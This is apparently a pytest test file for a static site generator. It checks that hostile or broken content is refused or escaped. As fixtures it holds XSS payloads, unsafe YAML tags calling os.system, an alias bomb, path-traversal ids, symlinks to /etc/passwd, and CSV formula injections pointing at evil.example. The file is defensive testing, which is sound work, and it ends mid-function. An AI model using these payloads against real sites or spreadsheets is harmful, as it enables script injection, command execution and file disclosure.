"""Hostile and broken input (issue 7): a catalogue of faults and attacks, each handled.

Every broken case starts from a good build of the baseline site (tests/sitekit.py), adds
one defect and builds again with the real command line. It must fail with the exact
located error, exit 1 (2 for a bad output folder), print no traceback and leave the
previous output/ byte for byte as it was.

Hostile content that is valid builds, and nothing executable may reach the output: the
built files are scanned, and the pages are opened in headless Chromium with a hook that
records any script execution (alert/confirm/prompt and a global flag).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import pytest

from tests.sitekit import BASELINE, REPO, dedent, make_site, run_sitegen, snapshot

ACT = "content/activities/bad.md"


def act(front: str, body: str = "Body text.") -> str:
    """An activity file: the given front matter lines (dedented) and a body."""
    return "---\n" + dedent(front) + "---\n\n" + body + "\n"


GOOD_FRONT = """\
    title: A valid activity
    area: firearms
    status: completed
    start: 2019-05-01
    """


def front_with(**changes: str | None) -> str:
    """GOOD_FRONT with keys replaced (value None removes the key, new keys are added)."""
    lines = dedent(GOOD_FRONT).splitlines()
    out = []
    for line in lines:
        key = line.split(":", 1)[0]
        if key in changes:
            value = changes.pop(key)
            if value is not None:
                out.append(f"{key}: {value}" if value != "" else f"{key}:")
        else:
            out.append(line)
    out += [f"{k}: {v}" for k, v in changes.items() if v is not None]
    return "\n".join(out) + "\n"


def plan_with(old: str, new: str) -> str:
    text = BASELINE["content/plan.yaml"]
    assert old in text, old
    return text.replace(old, new, 1)


# The real billion laughs: each level refers to the previous one nine times.
ALIAS_BOMB = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [" + ", ".join([f"*{chr(97 + i)}"] * 9) + "]\n"
    for i in range(8))


@dataclass
class Case:
    """One defect: files to write (None deletes), an optional setup, the expected error."""

    name: str
    files: dict[str, str | bytes | None]
    path: str  # file named in the error ("" for usage errors on stderr)
    line: int | None  # None: the error has no line
    message: str
    setup: Callable[[Path], None] | None = None
    args: Callable[[Path], list[str]] = field(default=lambda site: [])
    code: int = 1
    also: tuple[str, ...] = ()  # further substrings of the same error line


def _symlink(rel: str, target: str) -> Callable[[Path], None]:
    def setup(site: Path) -> None:
        path = site / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, path)
    return setup


def _out(rel: str) -> Callable[[Path], list[str]]:
    return lambda site: ["-o", str((site / rel))]


def _output_symlink_to_site(site: Path) -> None:
    os.symlink(site, site.parent / "link-to-site")


def _foreign_output(site: Path) -> None:
    (site.parent / "foreign").mkdir()
    (site.parent / "foreign" / "CNAME").write_text("example.org\n")


TWIN_NFC = "content/activities/caf\u00e9.md"
TWIN_NFD = "content/activities/cafe\u0301.md"

CASES: list[Case] = [
    # -- front matter fences --------------------------------------------------------------
    Case("unclosed-front-matter", {ACT: "---\ntitle: x\narea: firearms\n\nBody\n"},
         ACT, 1, "front matter is not closed: add a line '---' after line 3 (its last key), before the text"),
    # (not closed, and a Markdown rule "---" below: the body is read as YAML up to it)
    Case("unclosed-front-matter-above-a-rule", {ACT: "---\ntitle: x\narea: firearms\n\nHeld in Vienna: with\n"
                                                      "partners.\n\n---\n\nMore.\n"},
         ACT, 4, "front matter is not closed: the line '---' that ends it is missing here"),
    Case("toml-fence", {ACT: "+++\ntitle = 'x'\n+++\n"}, ACT, 1, "front matter must be YAML"),
    Case("js-fence", {ACT: "---js\n{title: require('fs')}\n---\n"}, ACT, 1,
         "front matter must be YAML between --- lines"),
    Case("semicolon-fence", {ACT: ";;;\n{\"title\": \"x\"}\n;;;\n"}, ACT, 1,
         "front matter must be YAML"),
    Case("blank-line-before-fence", {ACT: "\n" + act(GOOD_FRONT)}, ACT, 1,
         "front matter must start on the first line"),
    Case("empty-file", {ACT: ""}, ACT, 1, "missing front matter"),
    Case("no-front-matter", {ACT: "Just a body\n"}, ACT, 1, "missing front matter"),
    Case("front-matter-is-a-list", {ACT: "---\n- a\n- b\n---\n"}, ACT, 2,
         "an activity's front matter must be a YAML mapping"),
    # -- YAML syntax and semantics --------------------------------------------------------
    Case("tab-indentation", {ACT: act(GOOD_FRONT + "location:\n\tcity: Vienna\n")},
         ACT, 7, "invalid YAML: tab character: YAML indentation must use spaces"),
    Case("bad-indentation", {ACT: act(GOOD_FRONT + "location:\n    city: Vienna\n  country: AT\n")},
         ACT, 8, "invalid YAML"),
    Case("unclosed-quote-in-plan", {"content/plan.yaml": plan_with(
        "title: Test Plan 2018-2020", "title: \"Test Plan 2018-2020")},
         "content/plan.yaml", 1, "the file ends before the quote or bracket opened here is closed"),
    # (a quote not closed on its line, a quote further down: YAML fails there; the slip is here)
    Case("unclosed-quote-then-another", {ACT: act(GOOD_FRONT.replace("title: ", 'title: "', 1)
                                                  + 'countries: ["NO"]\n')},
         ACT, 2, "the quote opened here is not closed on its line"),
    # (a value quoted over two lines is YAML's: a slip lines below is reported where it is)
    Case("two-line-quote-then-another-slip", {ACT: act(GOOD_FRONT.replace("title: A valid activity",
                                                                           'title: "A valid\n  activity"', 1)
                                                       + "location: {city: Oslo\n")},
         ACT, 7, "invalid YAML: the '{' opened here is not closed on its line"),
    Case("duplicate-key-front-matter", {ACT: act(GOOD_FRONT + "start: 2019-06-01\n")},
         ACT, 6, "duplicate key 'start' (first defined on line 5)"),
    Case("duplicate-key-plan", {"content/plan.yaml": plan_with(
        "    title: Firearms\n", "    title: Firearms\n    title: Guns\n")},
         "content/plan.yaml", 30, "duplicate key 'title' (first defined on line 29)"),
    Case("python-tag", {ACT: act(GOOD_FRONT + "tags: !!python/object/apply:os.system ['touch PWNED']\n")},
         ACT, 6, "unsupported YAML tag"),
    Case("python-name-tag-in-plan", {"content/plan.yaml": plan_with(
        "summary: A small plan used by the tests.", "summary: !!python/name:os.system")},
         "content/plan.yaml", 2, "unsupported YAML tag"),
    Case("unknown-local-tag", {ACT: act(GOOD_FRONT + "tags: !include /etc/passwd\n")},
         ACT, 6, "unsupported YAML tag"),
    Case("alias-bomb", {"content/activities/bomb.yaml": ALIAS_BOMB},
         "content/activities/bomb.yaml", 1, "alias bomb"),
    Case("title-yes", {ACT: act(front_with(title="yes"))}, ACT, 2,
         "'title': expected text, got boolean 'yes'"),
    Case("countries-NO", {ACT: act(front_with(countries="[NO]"))}, ACT, 6,
         "'countries': expected text items, got boolean 'NO'"),
    Case("status-on", {ACT: act(front_with(status="on"))}, ACT, 4,
         "'status': expected text, got boolean 'on'"),
    Case("title-number", {ACT: act(front_with(title="1.10"))}, ACT, 2,
         "'title': expected text, got number '1.10'"),
    Case("unpadded-date", {ACT: act(front_with(start="2019-1-5"))}, ACT, 5,
         "'start': date expected as YYYY-MM-DD, got '2019-1-5'"),
    Case("february-30", {ACT: act(front_with(start="2024-02-30"))}, ACT, 5,
         "'start': 2024-02-30 is not a real date"),
    Case("month-13", {ACT: act(front_with(start="2024-13-01"))}, ACT, 5,
         "'start': 2024-13-01 is not a real date"),
    Case("empty-date", {ACT: act(front_with(start=""))}, ACT, 5, "'start': date expected"),
    Case("year-9999", {ACT: act(front_with(start="9999-12-31"))}, ACT, 5,
         "'start': 9999-12-31 is outside the years 1900-2199"),
    Case("huge-number", {ACT: act(front_with(participants="1" + "0" * 400))}, ACT, 6,
         "'participants': expected a finite number up to 1e+15, got 100000000000000000000000..."),
    Case("title-null", {ACT: act(front_with(title="null"))}, ACT, 2, "'title' must not be empty"),
    Case("title-empty-string", {ACT: act(front_with(title="''"))}, ACT, 2,
         "'title' must not be empty"),
    Case("title-missing", {ACT: act(front_with(title=None))}, ACT, 2,
         "missing required key 'title'"),
    # -- encodings and binary files -------------------------------------------------------
    Case("cp1252-byte", {ACT: act(GOOD_FRONT, "Dates 2019\x962020").encode("utf-8").replace(
        "\x96".encode("utf-8"), b"\x96")}, ACT, 8, "file is not UTF-8 (byte 0x96"),
    Case("utf16-file", {ACT: act(GOOD_FRONT).encode("utf-16")}, ACT, 1, "file is UTF-16, not UTF-8"),
    Case("nul-bytes", {ACT: act(GOOD_FRONT, "a\x00b").encode()}, ACT, 8, "NUL bytes"),
    Case("binary-md", {"content/pages/logo.md": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"},
         "content/pages/logo.md", 3, "NUL bytes"),
    Case("control-char-in-body", {ACT: act(GOOD_FRONT, "bell \x07 here")}, ACT, 8,
         "file contains the control character U+0007"),
    Case("control-char-escape-in-title", {ACT: act(front_with(title='"a\\x1bb"'))}, ACT, 2,
         "'title' contains the control character U+001B"),
    Case("over-size-limit", {ACT: act(GOOD_FRONT, "x" * 2_000_001)}, ACT, None,
         "larger than the 2 MB limit"),
    # -- identities and URLs --------------------------------------------------------------
    Case("nfc-nfd-twins", {TWIN_NFC: act(GOOD_FRONT), TWIN_NFD: act(GOOD_FRONT)},
         sorted([TWIN_NFC, TWIN_NFD])[1], 2, "duplicate activity id 'caf\u00e9': also used by "
         + sorted([TWIN_NFC, TWIN_NFD])[0]),
    Case("case-twins", {"content/activities/Water.md": act(GOOD_FRONT),
                        "content/activities/water.md": act(GOOD_FRONT)},
         "content/activities/water.md", 2, "duplicate activity id 'water': also used by "
         "content/activities/Water.md"),
    Case("unknown-area", {ACT: act(front_with(area="fire-arms"))}, ACT, 3,
         "unknown area 'fire-arms'", also=("did you mean 'firearms'?",)),
    Case("duplicate-indicator-id", {"content/plan.yaml": plan_with(
        "- id: fa-experts", "- id: bs-posts")}, "content/plan.yaml", 37,
         "duplicate indicator id 'bs-posts' (first defined on line"),
    Case("target-n/a", {"content/plan.yaml": plan_with("target: 4", "target: n/a")},
         "content/plan.yaml", 35, "'target': expected a number, got text 'n/a'"),
    Case("target-nan", {"content/plan.yaml": plan_with("target: 4", "target: .nan")},
         "content/plan.yaml", 35, "'target': expected a finite number"),
    Case("negative-participants", {ACT: act(front_with(participants="-5"))}, ACT, 6,
         "'participants' must not be negative, got -5"),
    # (a hexadecimal number has no digit limit in Python; shown in decimal, it raised one)
    Case("huge-hex-flag", {ACT: act(front_with(draft="0x" + "f" * 4000))}, ACT, 6,
         "cannot be read as a whole number (too many digits)"),
    Case("id-dotdot", {ACT: act(front_with(id="../../etc/x"))}, ACT, 6,
         "activity id '../../etc/x'"),
    Case("id-slash", {ACT: act(front_with(id="a/b"))}, ACT, 6, "activity id 'a/b'"),
    Case("id-absolute", {ACT: act(front_with(id="/etc/passwd"))}, ACT, 6,
         "activity id '/etc/passwd'"),
    Case("id-windows-path", {ACT: act(front_with(id="'C:\\x'"))}, ACT, 6, "activity id 'C:\\x'"),
    Case("id-reserved-con", {ACT: act(front_with(id="con"))}, ACT, 6, "'con' is a reserved name"),
    Case("id-reserved-nul", {ACT: act(front_with(id="NUL"))}, ACT, 6, "'NUL' is a reserved name"),
    Case("id-300-chars", {ACT: act(front_with(id="x" * 300))}, ACT, 6,
         "an id is limited to 120 characters"),
    Case("area-id-dotdot", {"content/plan.yaml": plan_with("- id: firearms", "- id: ..")},
         "content/plan.yaml", 28, "area id '..': an id may hold only letters"),
    # (a folder of that name cannot be made on Windows)
    Case("area-id-device", {"content/plan.yaml": plan_with("- id: firearms", "- id: con.x")},
         "content/plan.yaml", 28, "area id 'con.x': 'con' is a device name on Windows (with any extension)"),
    Case("area-id-trailing-dot", {"content/plan.yaml": plan_with("- id: firearms", "- id: arms.")},
         "content/plan.yaml", 28, "area id 'arms.': the name ends with a dot or a space, which Windows drops"),
    Case("page-slug-traversal", {"content/pages/evil.md": "---\ntitle: Evil\nslug: ../../x\n---\n"},
         "content/pages/evil.md", 3, "page address '../../x'"),
    Case("page-slug-collision", {"content/pages/about-us.md":
                                 "---\ntitle: About us\nslug: about\n---\n"},
         "content/pages/about.md", 1, "page address '/pages/about/' is also used by "
         "content/pages/about-us.md"),
    Case("static-over-page", {"content/static/data/activities.json": "[]\n"},
         "content/static/data/activities.json", None,
         "static file would overwrite the generated data/activities.json"),
    Case("static-in-search-index", {"content/static/pagefind/pagefind-entry.json": "{}\n"},
         "content/static/pagefind/pagefind-entry.json", None, "static file in pagefind/, which holds the search index"),
    Case("activity-url-over-list", {ACT: act(front_with(id="index"))}, ACT, 6,
         "'index' is a reserved name"),
    # -- static files that would run script on the site's domain -------------------------
    Case("static-svg-onload", {"content/static/logo.svg": "<svg xmlns='http://www.w3.org/2000/svg' "
                               "onload='alert(1)'/>\n"},
         "content/static/logo.svg", 1, "SVG refused: event handler attribute 'onload'"),
    Case("static-svg-entity-href", {"content/static/x.svg": "<svg xmlns='http://www.w3.org/2000/svg'>"
                                    "<a href='&#106;avascript:alert(1)'>"
                                    "<text>x</text></a></svg>\n"},
         "content/static/x.svg", 1, "SVG refused: <a> link 'javascript:alert(1)'"),
    Case("static-html-script", {"content/static/promo.html": "<p>hi</p><script>alert(1)</script>\n"},
         "content/static/promo.html", None, "static .html files are refused"),
    Case("static-js", {"content/static/app.js": "alert(1)\n"},
         "content/static/app.js", None, "static .js files are refused"),
    # -- URLs in front matter -------------------------------------------------------------
    *[Case(f"output-url-{label}", {ACT: act(front_with(outputs=f"[{{title: R, url: {url}}}]"))},
           ACT, 6, "only http, https and mailto links are allowed")
      for label, url in [("javascript", "'javascript:alert(1)'"),
                         ("mixed-case", "'jAvAsCrIpT:alert(1)'"),
                         ("entity", "'&#106;avascript:alert(1)'"),
                         ("colon-entity", "'javascript&colon;alert(1)'"),
                         ("tab-inside", "\"java\\tscript:alert(1)\""),
                         ("leading-newline", "\"\\njavascript:alert(1)\""),
                         ("data", "'data:text/html,<script>alert(1)</script>'"),
                         ("vbscript", "' vbscript:msgbox(1)'")]],
    Case("partner-url-javascript", {"content/plan.yaml": plan_with(
        "url: https://alpha.example.org", "url: 'JavaScript:alert(1)'")},
         "content/plan.yaml", 6, "only http, https and mailto links are allowed"),
    # -- symlinks -------------------------------------------------------------------------
    Case("symlink-to-etc-passwd", {}, "content/activities/passwd.md", None,
         "symlink points outside the site folder",
         setup=_symlink("content/activities/passwd.md", "/etc/passwd")),
    Case("static-symlink-to-etc-passwd", {}, "content/static/passwd.txt", None,
         "symlink points outside the site folder",
         setup=_symlink("content/static/passwd.txt", "/etc/passwd")),
    Case("symlink-self-loop", {}, "content/activities/self.md", None, "broken symlink",
         setup=_symlink("content/activities/self.md", "self.md")),
    Case("symlink-dangling", {}, "content/activities/gone.md", None, "broken symlink (missing target or a loop)",
         setup=_symlink("content/activities/gone.md", "nowhere.md")),
    Case("symlink-dir-loop", {}, "content/activities/loop", None,
         "symlinked folders are not followed",
         setup=_symlink("content/activities/loop", "..")),
    Case("symlink-into-git", {".git/config": "[core]\n"}, "content/static/config.txt", None,
         "symlink points into a hidden folder or the output; refused",
         setup=_symlink("content/static/config.txt", "../../.git/config")),
    # -- templates ------------------------------------------------------------------------
    Case("template-syntax-error", {"templates/page.html":
                                   "{% extends \"base.html\" %}\n{% block main %}\n"
                                   "{% endfor %}\n{% endblock %}\n"},
         "templates/page.html", 3, "unknown tag 'endfor'"),
    Case("template-unknown-filter", {"templates/page.html":
                                     "{% extends \"base.html\" %}\n{% block main %}\n\n"
                                     "{{ page.title|shout }}\n{% endblock %}\n"},
         "templates/page.html", 4, "No filter named 'shout'"),
    Case("template-undefined", {"templates/page.html":
                                "{% extends \"base.html\" %}\n{% block main %}\n<p>ok</p>\n"
                                "{{ page.no_such_field }}\n{% endblock %}\n"},
         "templates/page.html", 4, "no_such_field"),
    # -- output folders (usage errors, exit 2) ---------------------------------------------
    Case("output-is-site", {}, "", None, "it is or contains the site folder",
         args=_out("."), code=2),
    Case("output-is-parent", {}, "", None, "it is or contains the site folder",
         args=_out(".."), code=2),
    Case("output-inside-content", {}, "", None, "it is inside content/",
         args=_out("content/out"), code=2),
    Case("output-symlink-to-site", {}, "", None, "it is or contains the site folder",
         setup=_output_symlink_to_site, args=_out("../link-to-site"), code=2),
    Case("output-with-foreign-files", {}, "", None, "is not empty and was not made by sitegen",
         setup=_foreign_output, args=_out("../foreign"), code=2),
]


def test_catalogue_is_large_enough() -> None:
    assert len(CASES) >= 45
    assert len({c.name for c in CASES}) == len(CASES)


@pytest.fixture(scope="module")
def good_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The baseline site, built once; each case copies it (with its output)."""
    site = make_site(tmp_path_factory.mktemp("good") / "site")
    run = run_sitegen("build", site)
    assert run.returncode == 0, run.stderr
    assert "warning" not in run.stderr
    return site


def _copy(good_site: Path, tmp_path: Path) -> Path:
    site = tmp_path / "site"
    shutil.copytree(good_site, site, symlinks=True)
    return site


def _write(site: Path, files: dict[str, str | bytes | None]) -> None:
    for rel, text in files.items():
        path = site / rel
        if text is None:
            path.unlink()
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(text, bytes):
            path.write_bytes(text)
        else:
            path.write_text(text, encoding="utf-8", newline="")


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_broken_input_fails_cleanly(case: Case, good_site: Path, tmp_path: Path) -> None:
    site = _copy(good_site, tmp_path)
    before = snapshot(site / "output")
    around = sorted(p.name for p in tmp_path.iterdir())
    _write(site, case.files)
    if case.setup:
        case.setup(site)
    around = sorted(p.name for p in tmp_path.iterdir())
    run = run_sitegen("build", site, *case.args(site), cwd=tmp_path, timeout=60)
    out = run.stdout + run.stderr
    assert "Traceback" not in out, out
    assert run.returncode == case.code, out
    if case.code == 2:
        assert f"sitegen: error: " in run.stderr and case.message in run.stderr, out
    else:
        prefix = f"{case.path}:{case.line}:" if case.line else f"{case.path}: error: "
        hits = [ln for ln in run.errors if ln.startswith(prefix) and case.message in ln]
        assert hits, f"expected {prefix}...{case.message}\ngot:\n{run.stderr}"
        assert all(extra in hits[0] for extra in case.also), hits[0]
        assert "previous output was left untouched" in run.stderr
    # Nothing written, nothing executed, nothing left behind.
    assert snapshot(site / "output") == before
    assert sorted(p.name for p in tmp_path.iterdir()) == around
    assert not (tmp_path / "PWNED").exists() and not (site / "PWNED").exists()
    assert not any(p.name.startswith(".output.tmp") for p in site.iterdir())


def test_check_finds_a_static_file_that_would_overwrite_a_page(good_site: Path, tmp_path: Path) -> None:
    """`check` (what pull requests run) stops what `build` would stop: not only `build`."""
    site = _copy(good_site, tmp_path)
    _write(site, {"content/static/data/activities.json": "[]\n", "content/static/robots.txt": "x"})
    run = run_sitegen("check", site, "--format", "json", cwd=tmp_path, timeout=60)
    assert run.returncode == 1, run.stderr
    found = {(p["path"], p["severity"]) for p in json.loads(run.stdout)}
    assert {("content/static/data/activities.json", "error"), ("content/static/robots.txt", "error")} <= found
    assert any("overwrite the generated data/activities.json" in p["message"] for p in json.loads(run.stdout))


def test_alias_bomb_is_refused_quickly(tmp_path: Path) -> None:
    """The loader's expansion count stops a billion-laughs document (guard, not a benchmark)."""
    from sitegen import yamlload

    started = time.perf_counter()
    with pytest.raises(yamlload.YamlError) as err:
        yamlload.load(ALIAS_BOMB)
    assert "alias bomb" in err.value.message
    assert time.perf_counter() - started < 30  # completes; the < 1 s figure is in bench/


@pytest.mark.parametrize("top", ["content/deep", "content/static/deep"])
def test_folders_nested_thousands_deep_are_refused_cleanly(tmp_path: Path, top: str) -> None:
    """A pull request can nest folders deeper than Python's recursion limit."""
    site = make_site(tmp_path / "site")
    before = snapshot(site / "output") if (site / "output").exists() else None
    folders = [str(site / top)]
    os.makedirs(folders[0])
    for _ in range(1200):
        folders.append(os.path.join(folders[-1], "a"))
        os.mkdir(folders[-1])
    stray = os.path.join(folders[-1], "x.md")
    with open(stray, "w", encoding="utf-8") as fh:
        fh.write("stray\n")
    try:
        for command in ("check", "build"):
            run = run_sitegen(command, site)
            assert run.returncode == 1 and "Traceback" not in run.stderr, run.stderr[-2000:]
            assert "folders nested more than 32 deep are refused" in run.stderr
        assert (snapshot(site / "output") if (site / "output").exists() else None) == before
    finally:  # bottom up: shutil.rmtree (pytest's clean-up) recurses and would fail here
        os.unlink(stray)
        for folder in reversed(folders):
            os.rmdir(folder)


# -- accepted variants: BOM and line endings ---------------------------------------------

def _built(site: Path) -> dict[str, bytes]:
    run = run_sitegen("build", site)
    assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr
    return snapshot(site / "output")


def test_bom_and_line_endings_give_identical_output(tmp_path: Path) -> None:
    reference = _built(make_site(tmp_path / "lf"))
    for name, encode in [
        ("bom", lambda t: b"\xef\xbb\xbf" + t.encode()),
        ("crlf", lambda t: t.replace("\n", "\r\n").encode()),
        ("cr", lambda t: t.replace("\n", "\r").encode()),
        ("mixed", lambda t: t.replace("\n", "\r\n", 3).encode()),
    ]:
        files = {rel: encode(text) for rel, text in BASELINE.items()}
        got = _built(make_site(tmp_path / name, files))
        assert got == reference, name


# -- hostile content that builds: nothing executable in the output ------------------------

PAYLOAD = '"><script>alert(1)</script>'
HOSTILE_BODY = dedent("""
    Plain paragraph.

    <script>window.__xss.push('script')</script>
    <img src=x onerror="window.__xss.push('onerror')">
    <iframe src="javascript:window.__xss.push('iframe')"></iframe>
    <style>body{background:url(javascript:alert(1))}</style>
    <svg onload="window.__xss.push('svg')"><circle r=1 /></svg>
    <a href="#" onclick="window.__xss.push('click')">click</a>
    <details open ontoggle="window.__xss.push('toggle')"><summary>x</summary></details>
    <form action="javascript:alert(1)"><button>go</button></form>
    <object data="data:text/html,<script>alert(1)</script>"></object>
    <math><mi xlink:href="javascript:alert(1)">m</mi></math>
    <!-- <script>alert(1)</script> -->

    [plain](javascript:alert(1))
    [upper](jAvAsCrIpT:alert(1))
    [entity](&#106;avascript:alert(1))
    [colon](javascript&colon;alert(1))
    [ctrl](&#x01;javascript:alert(1))
    <a href="java&#x09;script:alert(1)">tab entity</a>
    [data](data:text/html,<script>alert(1)</script>)
    <a href="JaVaScRiPt:alert(1)">raw</a>
    <a href="&#x6A;avascript:alert(1)">raw entity</a>
    <a href=" javascript:alert(1)">raw space</a>
    ![img](javascript:alert(1))
    [title]("><script>alert(1)</script> "t\\"itle")

    ```"><img src=x onerror=alert(1)>
    code
    ```

    {{ 7 * 7 }} and {% include '/etc/passwd' %} and ${7 * 7}
    """)

HOSTILE_FILES: dict[str, str] = {
    "content/plan.yaml": plan_with("title: Test Plan 2018-2020", f"title: '{PAYLOAD} plan'")
    .replace("title: Firearms\n    summary: Tracing of firearms.",
             "title: \"</script><!-- Firearms <script>alert(1)</script>\"\n"
             "    summary: \"Tracing <img src=x onerror=alert(1)>.\"")
    .replace("title: Firearms workshops held", "title: \"</script><script>alert(1)</script>\""),
    "content/activities/hostile.md": act(
        f"""\
        title: '{PAYLOAD}'
        area: firearms
        status: completed
        start: 2019-05-01
        type: workshop
        location: {{city: '"><svg onload=alert(1)>', country: AT}}
        tags: ['</script><script>alert(1)</script>']
        partners: ['=HYPERLINK("http://evil.example","x")']
        participants: 3
        outputs: [{{title: '<img src=x onerror=alert(1)>', url: 'https://example.org/a?b="><script>'}}]
        """, HOSTILE_BODY),
    "content/activities/formulas.yaml": dedent("""
        - title: '=HYPERLINK("http://evil.example/?"&A1,"click")'
          area: firearms
          status: completed
          start: 2019-05-02
          tags: ['+1', '-1', '@SUM(A1:A9)']
          body: "=1+1"
        - title: '+cmd|'' /C calc''!A0'
          area: border-security
          status: completed
          start: 2019-05-03
          partners: ['-2+3', '@SUM(1)']
        """),
    # (a page's title is also written in a <style>, the printed sheets' running head)
    "content/pages/hostile.md": f"---\ntitle: '\\\"; }} </style>{PAYLOAD}'\n---\n\n" + HOSTILE_BODY,
    "content/areas/firearms.md": f"---\ntitle: '{PAYLOAD}'\n---\n\n" + HOSTILE_BODY,
    "content/measurements/states.yaml": dedent("""
        - indicator: fa-states
          date: 2019-06-30
          value: 14
          note: '=HYPERLINK("http://evil.example")</script><!--'
        """),
}


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    site = make_site(tmp_path_factory.mktemp("hostile") / "site", HOSTILE_FILES)
    run = run_sitegen("build", site)
    assert run.returncode == 0, run.stderr
    assert "Traceback" not in run.stderr
    return site


THEME_SCRIPT = re.compile(
    r'<script(?: src="(?:\.\./)*assets/[\w.-]+\.js"| type="application/(?:ld\+)?json"[^>]*)>')


def _theme_inline(code: str) -> bool:
    """The theme's own inline scripts, and only them: the class that tells the CSS scripts
    run (base.html) and the 404 page's search for the site's root (404.html), as written
    in the theme's templates (a record's <script> is never one of them: it is escaped)."""
    if code == 'document.documentElement.classList.add("js");':
        return True
    source = (REPO / "sitegen/theme/templates/404.html").read_text(encoding="utf-8")
    theirs = source[source.index("<script>") + len("<script>"):source.index("</script>")]
    fixed = [part for part in re.split(r"\{\{.*?\}\}", theirs) if part]  # (its values vary by site)
    at = 0
    for part in fixed:
        at = code.find(part, at)
        if at < 0:
            return False
        at += len(part)
    return code.startswith(fixed[0]) and code.endswith(fixed[-1])


def _html_files(site: Path) -> dict[str, str]:
    out = site / "output"
    return {p.relative_to(out).as_posix(): p.read_text(encoding="utf-8")
            for p in sorted(out.rglob("*.html"))}


def executable_bits(html: str) -> list[str]:
    """What in a built page could run script: foreign <script>, on*= handlers, js URLs..."""
    found = []
    for m in re.finditer(r"<script\b[^>]*>", html, re.I):
        inline = html[m.end():html.find("</script>", m.end())]
        if not THEME_SCRIPT.fullmatch(m.group(0)) and not (m.group(0) == "<script>" and _theme_inline(inline)):
            found.append(m.group(0))
    # Inside JSON blocks '<' is escaped, so no '</script' or '<!--' can end them early.
    for block in re.findall(r'<script type="application/(?:ld\+)?json"[^>]*>(.*?)</script>', html, re.S):
        if "<" in block:
            found.append("raw '<' in embedded JSON")
    text = re.sub(r'<script type="application/(?:ld\+)?json"[^>]*>.*?</script>', "", html, flags=re.S)
    # (an on*= handler is an attribute of a tag: the quoted values of attributes are text, e.g.
    # a page's description quoting a record's body, escaped)
    found += [m.group(0) for m in re.finditer(r"<[a-z][^>]*>", text, re.I)
              if re.search(r"\son\w+\s*=", re.sub(r'="[^"]*"', '=""', m.group(0)), re.I)]
    # (the theme's empty favicon `href="data:,"` is the one data: URL allowed)
    found += [m.group(0) for m in re.finditer(
        r"(?:href|src|action|data|formaction)\s*=\s*[\"']?\s*"
        r"(?:javascript:|vbscript:|data:(?!,\"))", text, re.I)]
    body = text.split("<body", 1)[-1].lower()
    found += [f"<{tag}" for tag in ("iframe", "style", "object", "embed", "math", "base", "meta")
              if f"<{tag}" in body]
    return found


def test_no_script_reaches_html(hostile_site: Path) -> None:
    pages = _html_files(hostile_site)
    assert "activities/hostile/index.html" in pages and "pages/hostile/index.html" in pages
    for rel, html in pages.items():
        assert executable_bits(html) == [], rel


def test_trusted_raw_html_is_the_documented_exception(tmp_path: Path) -> None:
    """With `allow_raw_html: true` the same body keeps its scripts: the scan sees them."""
    site = make_site(tmp_path / "site", {
        "site.yaml": BASELINE["site.yaml"] + "allow_raw_html: true\n",
        "content/pages/raw.md": "---\ntitle: Raw\n---\n\n" + HOSTILE_BODY})
    run = run_sitegen("build", site)
    assert run.returncode == 0, run.stderr
    found = executable_bits((site / "output/pages/raw/index.html").read_text())
    assert "<script>" in found and any("onerror" in f for f in found), found


def test_hostile_title_escaped_in_every_context(hostile_site: Path) -> None:
    out = hostile_site / "output"
    page = (out / "activities/hostile/index.html").read_text()
    escaped = "&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"
    assert escaped in page.split("</title>")[0]  # in <title>
    assert f"<h1>{escaped}</h1>" in page or escaped in page.split("<h1", 1)[1][:400]
    assert PAYLOAD not in page
    feed = (out / "feed.xml").read_text()
    assert PAYLOAD not in feed and "&lt;script&gt;" in feed
    import xml.dom.minidom
    xml.dom.minidom.parseString(feed.encode())  # still well-formed
    listing = (out / "activities/index.html").read_text()
    assert PAYLOAD not in listing
    # templates-like text in bodies is shown literally
    assert "{{ 7 * 7 }}" in page and "{% include '/etc/passwd' %}" in page and "root:x:0" not in page


def test_csv_formula_cells_neutralised(hostile_site: Path) -> None:
    import csv
    import io

    text = (hostile_site / "output/data/activities.csv").read_text(encoding="utf-8")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert any("HYPERLINK" in c for c in cells)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    for csv_path in (hostile_site / "output/data/charts").glob("*.csv"):
        for row in csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8"))):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (csv_path.name, cell)
                assert not re.match(r"-[^\d]", cell), (csv_path.name, cell)


XSS_HOOK = """
window.__xss = [];
for (const name of ['alert', 'confirm', 'prompt', 'print']) {
  window[name] = (...args) => { window.__xss.push(name + ':' + args.join(',')); };
}
"""


def test_no_script_runs_in_browser(hostile_site: Path, browser, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from tests.browser_support import open_page, plotly_charts_drawn, serve_directory

    # The hook works: a canary page that does run script is caught.
    (tmp_path / "index.html").write_text(
        "<!doctype html><script>window.__xss.push('script')</script>"
        "<img src=x onerror=\"alert(1)\">")
    with serve_directory(tmp_path) as base, open_page(browser, None) as session:
        session.page.add_init_script(XSS_HOOK)
        session.goto(base)
        session.page.wait_for_function("() => window.__xss.length >= 2", timeout=10000)
        assert sorted(session.page.evaluate("() => window.__xss")) == ["alert:1", "script"]

    pages = ["activities/hostile/", "pages/hostile/", "areas/firearms/", "", "activities/",
             "indicators/fa-workshops/", "timeline/"]
    with serve_directory(hostile_site / "output") as base:
        for rel in pages:
            session = open_page(browser, None)
            try:
                session.page.add_init_script(XSS_HOOK)
                session.goto(base + rel)
                assert session.status == 200, rel
                total, drawn = plotly_charts_drawn(session.page)
                # click everything clickable in the content, to trigger handlers if any
                # survived: switches first reveal their views, hidden controls are skipped
                for link in session.page.locator(
                        "main input[type=radio], main a[href='#'], main summary").all()[:30]:
                    if link.is_visible():
